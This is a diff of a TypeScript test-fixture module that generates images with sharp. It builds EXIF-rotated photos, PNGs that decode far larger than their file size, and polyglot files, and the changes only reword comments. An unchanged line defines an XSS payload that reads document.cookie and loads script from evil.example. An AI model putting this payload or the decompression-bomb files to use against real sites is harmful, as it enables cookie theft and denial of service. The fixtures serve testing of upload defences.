@@ -1,7 +1,7 @@
 import { crc32, deflateSync } from 'node:zlib';
 import sharp, { type Sharp } from 'sharp';
 
-/** A picture that is not the same everywhere. */
+/** A picture with noise. */
 async function noise(width: number, height: number): Promise<Sharp> {
   const grain = { width: 64, height: 48, channels: 3 as const, background: '#888' };
   const made = await sharp({
@@ -12,7 +12,7 @@ async function noise(width: number, height: number): Promise<Sharp> {
   return sharp(made).resize({ width, height, fit: 'fill', kernel: 'nearest' });
 }
 
-/** As a phone sends it: with where and when it was taken. */
+/** A photo as a phone makes it, with place and time. */
 export async function photo(
   width: number = 640,
   height: number = 480,
@@ -28,8 +28,8 @@ export async function photo(
 }
 
 /**
- * Left half red, right half blue, stored turned by 90° with the tag that says so.
- * @param times as large as 400 × 300
+ * A picture with a red left half and a blue right half, stored turned by 90° with its EXIF tag.
+ * @param times multiple of 400 × 300
  */
 export async function turnedPhoto(times = 1): Promise<Buffer> {
   const [width, height] = [400 * times, 300 * times];
@@ -46,7 +46,7 @@ export async function turnedPhoto(times = 1): Promise<Buffer> {
     ])
     .png()
     .toBuffer();
-  // Tag 6: to be turned clockwise by whoever shows it.
+  // Tag 6: viewers have to turn it clockwise.
   return sharp(upright).rotate(270).withMetadata({ orientation: 6 }).jpeg().toBuffer();
 }
 
@@ -57,13 +57,13 @@ interface PlainPng {
   depth?: 1 | 8 | 16;
   /** PNG's colour type: grey, or RGBA. */
   colour?: 0 | 6;
-  /** Bytes of a text beside the picture, all alike. */
+  /** Bytes of a text in the file, all the same. */
   text?: number;
-  /** Bytes of the picture's data, when not those that its size takes. */
+  /** Bytes of the picture's data, if not those that its size needs. */
   bytes?: number;
 }
 
-/** A PNG whose pixels are all alike, so that a small file holds many of them. */
+/** Returns a PNG whose pixels are all the same, so that a small file contains many of them. */
 export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: PlainPng): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -78,7 +78,7 @@ export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: 
     return Buffer.concat([length, body, sum]);
   };
   const channels = colour === 6 ? 4 : 1;
-  // Each row: how it is filtered, then its bits.
+  // Each row: its filter, then its bits.
   const rows = bytes ?? height * (1 + Math.ceil((width * channels * depth) / 8));
   return Buffer.concat([
     Buffer.from('89504e470d0a1a0a', 'hex'),
@@ -91,7 +91,7 @@ export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: 
   ]);
 }
 
-/** Pictures that cost much more than their bytes say. */
+/** Pictures that cost much more to decode than their size suggests. */
 export async function costlyFiles(): Promise<Record<string, Buffer>> {
   const frames = await Promise.all(Array.from({ length: 300 }, () => photo(16, 16)));
   return {
@@ -116,7 +116,7 @@ export async function costlyFiles(): Promise<Record<string, Buffer>> {
 
 export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';
 
-/** What is no picture, or more than one. */
+/** Files that are no picture, or more than that. */
 export async function oddFiles(): Promise<Record<string, Buffer>> {
   const jpeg = await photo();
   const commentary = Buffer.from(`*/=1;${script}/*`);
